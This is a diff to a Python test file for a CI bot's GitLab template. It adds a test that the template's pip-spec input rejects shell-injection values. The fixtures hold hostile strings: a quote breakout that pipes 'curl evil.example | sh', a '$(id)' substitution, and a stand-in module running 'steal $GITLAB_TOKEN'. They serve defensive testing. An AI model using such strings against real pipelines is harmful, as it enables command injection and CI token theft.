@@ -99,9 +99,10 @@ def _run_job(tmp_path: Path, job_id: str) -> dict[str, str]:
         (checkout / module / '__main__.py').write_text('import os; os.system("steal $GITLAB_TOKEN")\n')
     log = tmp_path / 'mrbot.log'
     log.unlink(missing_ok=True)
-    env = {'PATH': f"{bin_dir}{os.pathsep}{os.environ['PATH']}", 'CI_JOB_ID': job_id, 'MRBOT_PIP_SPEC': 'mrbot',
+    env = {'PATH': f"{bin_dir}{os.pathsep}{os.environ['PATH']}", 'CI_JOB_ID': job_id,
            'MRBOT_STAND_IN_LOG': str(log)}
-    text = TEMPLATE.read_text()
+    # GitLab writes the include's inputs into the configuration when it makes the pipeline
+    text = TEMPLATE.read_text().replace('$[[ inputs.pip-spec ]]', 'mrbot')
     env.update(_variables(text, '.mrbot-base', env))
     subprocess.run(['bash', '-c', _commands(text, '.mrbot-base')], env=env, cwd=checkout, check=True, timeout=60)
     return dict(line.split('=', 1) for line in log.read_text().splitlines())
@@ -238,3 +239,17 @@ def test_each_poster_runs_only_for_its_own_kind_of_run_and_the_result_poster_alw
     kept = {step.split('\n', 1)[0]: step for step in steps}
     for name in ('Find the benchmark history', 'Keep the benchmark history'):
         assert 'steps.artifact.outputs.found' not in kept[name], name
+
+
+def test_the_gitlab_template_takes_mrbot_from_its_input_which_no_job_variable_can_change_or_break_out_of():
+    spec, jobs = yaml.safe_load_all(TEMPLATE.read_text())
+    pattern = spec['spec']['inputs']['pip-spec']['regex']
+    # what `mrbot init --ci gitlab` passes, and what would leave the single quotes it is written between
+    from mrbot.workflows import ActionRef, gitlab_pipeline
+
+    [include] = yaml.safe_load(gitlab_pipeline(ActionRef('octo/mrbot', 'a' * 40), '0.1.0')[0].text)['include']
+    assert re.fullmatch(pattern, include['inputs']['pip-spec'])
+    for hostile in ("mrbot'; curl evil.example | sh; '", 'mrbot $(id)', 'mrbot\\', 'mrbot\nx'):
+        assert not re.fullmatch(pattern, hostile), hostile
+    script = '\n'.join(jobs['.mrbot-base']['script'])
+    assert "pip install --quiet '$[[ inputs.pip-spec ]]'" in script and 'MRBOT_PIP_SPEC' not in TEMPLATE.read_text()
